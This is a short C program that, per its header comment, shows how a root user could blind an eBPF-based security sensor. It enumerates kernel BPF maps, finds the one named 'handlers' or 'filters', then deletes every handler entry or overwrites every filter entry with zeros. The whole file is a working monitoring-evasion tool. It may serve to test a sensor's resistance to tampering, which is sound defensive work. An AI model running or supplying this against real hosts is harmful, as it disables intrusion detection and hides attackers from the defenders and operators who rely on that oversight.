/* SPDX-License-Identifier: Apache-2.0 */
/* What somebody with root might do to blind the sensor: empty the handlers, or overwrite the filter. */
#include <linux/bpf.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static int map_called(const char *wanted, struct bpf_map_info *info)
{
	union bpf_attr next = {};

	while (!bpf(BPF_MAP_GET_NEXT_ID, &next)) {
		union bpf_attr get = { .map_id = next.next_id };
		int fd = bpf(BPF_MAP_GET_FD_BY_ID, &get);
		memset(info, 0, sizeof(*info));
		union bpf_attr query = { .info = { .bpf_fd = fd, .info_len = sizeof(*info), .info = (unsigned long)info } };
		if (fd >= 0 && !bpf(BPF_OBJ_GET_INFO_BY_FD, &query) && strstr(info->name, wanted))
			return fd;
		close(fd);
		next.start_id = next.next_id;
	}
	return -1;
}

int main(int argc, char **argv)
{
	static char zeros[1 << 16];
	struct bpf_map_info info;
	int handlers = argc > 1 && !strcmp(argv[1], "handlers");
	int fd = map_called(handlers ? "handlers" : "filters", &info);
	int done = 0;

	for (unsigned key = 0; key < info.max_entries && fd >= 0; key++) {
		union bpf_attr change = { .map_fd = fd, .key = (unsigned long)&key };
		if (!handlers)
			change.value = (unsigned long)zeros;
		done += !bpf(handlers ? BPF_MAP_DELETE_ELEM : BPF_MAP_UPDATE_ELEM, &change);
	}
	printf("%d\n", done);
	return done ? 0 : 1;
}
